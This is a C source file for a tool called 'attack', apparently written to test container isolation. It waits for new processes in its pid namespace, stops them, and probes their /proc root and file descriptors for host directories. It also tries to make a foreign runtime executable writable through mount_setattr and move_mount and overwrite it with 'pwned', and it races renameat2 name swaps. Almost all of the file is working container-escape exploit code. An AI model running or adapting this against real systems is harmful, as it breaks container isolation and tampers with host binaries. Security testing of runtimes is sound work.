// What an attacker does that a shell can't, or not fast enough.
//
//   attack look PATH      waits for the next process of its pid namespace, stops it, and prints what it reaches by it:
//                         "root" where PATH is there, "fds" for each descriptor that it may look at, "directory N"
//                         where that is one of the host's, and "looked"; lets it go on, and so on for ever
//   attack seize          waits for a process with a program file that is not the image's, and makes that, which may be
//                         a mount, writable; when nobody executes it any more, writes to it. Prints how far it got
//   attack exchange A B   makes two names change places for ever
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

// Which process number is next: in a new pid namespace they are given one after the other.
static int wait_for_next(int last, int signal) {
    for (;;)
        for (int pid = last + 1; pid < last + 32; pid++)
            if (kill(pid, signal) == 0) return pid;
}

static int open_below(int pid, const char *format, int number) {
    char name[64], path[128];
    snprintf(name, sizeof name, format, number);
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return open(path, O_PATH);
}

// The container's own root is none of the host's.
static bool is_foreign_directory(int fd) {
    struct stat status, own;
    return fstat(fd, &status) == 0 && S_ISDIR(status.st_mode) && stat("/", &own) == 0 &&
           (status.st_ino != own.st_ino || status.st_dev != own.st_dev);
}

static void look(const char *marker) {
    for (int pid = getpid();;) {
        pid = wait_for_next(pid, SIGSTOP);
        int root = open_below(pid, "root", 0);
        if (root >= 0 && faccessat(root, marker + 1, F_OK, 0) == 0) puts("root");
        if (root >= 0) close(root);
        for (int fd = 3; fd < 64; fd++) {
            int copy = open_below(pid, "fd/%d", fd);
            if (copy < 0) continue;
            puts("fds");
            if (is_foreign_directory(copy)) printf("directory %d\n", fd);
            close(copy);
        }
        puts("looked");
        fflush(stdout);
        kill(pid, SIGCONT);
        while (kill(pid, 0) == 0)
            usleep(1000);
    }
}

static bool is_same(const struct stat *status, const char *path) {
    struct stat other;
    return stat(path, &other) == 0 && status->st_ino == other.st_ino && status->st_dev == other.st_dev;
}

// Whether a process executes a file that is neither this one nor the image's shell.
static bool is_foreign(int pid) {
    char path[64];
    struct stat status;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    return stat(path, &status) == 0 && !is_same(&status, "/proc/self/exe") && !is_same(&status, "/bin/busybox");
}

static void seize(void) {
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    int pid = getpid(), program = -1;
    for (bool found = false; !found;) {
        pid = wait_for_next(pid, SIGSTOP);
        // Who may not look into a process now may once it has executed something.
        while (!(found = is_foreign(pid)) && kill(pid, SIGCONT) == 0)
            kill(pid, SIGSTOP);
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    program = open(path, O_RDONLY);
    puts(program < 0 ? "not opened" : "opened");
    fflush(stdout);
    // The process is stopped: the runtime that waits for it holds what it holds meanwhile.
    if (syscall(SYS_mount_setattr, program, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0) puts("writable");
    int place = open("/tmp/place", O_CREAT | O_RDWR, 0600);
    if (syscall(SYS_move_mount, program, "", place, "", MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH) == 0) {
        puts("moved");
        syscall(SYS_mount_setattr, program, "", AT_EMPTY_PATH, &writable, sizeof writable);
    }
    fflush(stdout);
    kill(pid, SIGCONT);
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    for (;;) {
        int again = open(path, O_WRONLY | O_APPEND);
        if (again >= 0) {
            puts(write(again, "pwned", 5) == 5 ? "written" : "not written");
            break;
        }
        if (errno != ETXTBSY) {
            puts(strerror(errno));
            break;
        }
        usleep(1000);
    }
    fflush(stdout);
    pause();
}

static void exchange(const char *a, const char *b) {
    for (;;)
        if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
            perror("renameat2");
            exit(1);
        }
}

int main(int count, char **arguments) {
    if (count == 3 && strcmp(arguments[1], "look") == 0) look(arguments[2]);
    if (count == 2 && strcmp(arguments[1], "seize") == 0) seize();
    if (count == 4 && strcmp(arguments[1], "exchange") == 0) exchange(arguments[2], arguments[3]);
    fprintf(stderr, "usage: attack look PATH | seize | exchange A B\n");
    return 2;
}
